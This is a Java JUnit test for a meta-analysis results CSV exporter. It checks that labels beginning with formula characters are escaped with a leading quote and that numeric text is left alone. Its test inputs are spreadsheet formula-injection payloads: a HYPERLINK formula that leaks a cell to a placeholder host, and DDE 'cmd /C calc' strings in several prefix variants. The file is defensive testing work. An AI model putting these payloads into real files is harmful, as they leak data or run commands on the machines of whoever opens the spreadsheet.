package org.evsyn.reporting;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import org.evsyn.reporting.export.ResultRow;
import org.evsyn.reporting.export.ResultsCsv;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** results.csv opened in a spreadsheet never runs a formula that came in through a label. */
class ResultsCsvTest {

    private static ResultRow row(String outcome, String subgroup, double estimate) {
        return new ResultRow("mortality", outcome, "overall", subgroup, "RR", "random-effects", "REML", "z", 95, 3,
                estimate, 0.2, -1.1, -0.3, 0.49, 0.33, 0.74, Double.NaN, Double.NaN, -3.5, 0.001, 0.1, 4.2, 2, 0.12,
                52.4);
    }

    private static List<String> cells(String csv) throws Exception {
        CsvMapper mapper = new CsvMapper();
        mapper.enable(CsvParser.Feature.WRAP_AS_ARRAY);
        try (MappingIterator<List<String>> it = mapper.readerForListOf(String.class).readValues(csv)) {
            it.next(); // header
            return it.next();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click\")", "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
            "\r=1+1", "-", "=", "-0.71 (subgroup)"})
    void formulaLeadingLabelsStartWithASingleQuote(String label) throws Exception {
        String csv = ResultsCsv.of(List.of(row(label, label, -0.71)));

        List<String> cells = cells(csv);
        assertThat(cells.get(1)).isEqualTo("'" + label);
        assertThat(cells.get(3)).isEqualTo("'" + label);
    }

    @Test
    void numbersAndNumericTextStayNumbers() throws Exception {
        String csv = ResultsCsv.of(List.of(row("Mortality - all causes", "-0.71", -0.71)));

        List<String> cells = cells(csv);
        assertThat(cells.get(1)).isEqualTo("Mortality - all causes");
        assertThat(cells.get(3)).isEqualTo("-0.71");
        assertThat(cells.get(10)).isEqualTo("-0.71");
        assertThat(cells.get(12)).isEqualTo("-1.1");
        assertThat(cells.get(19)).isEqualTo("-3.5");
        assertThat(csv).doesNotContain("'-");
    }
}
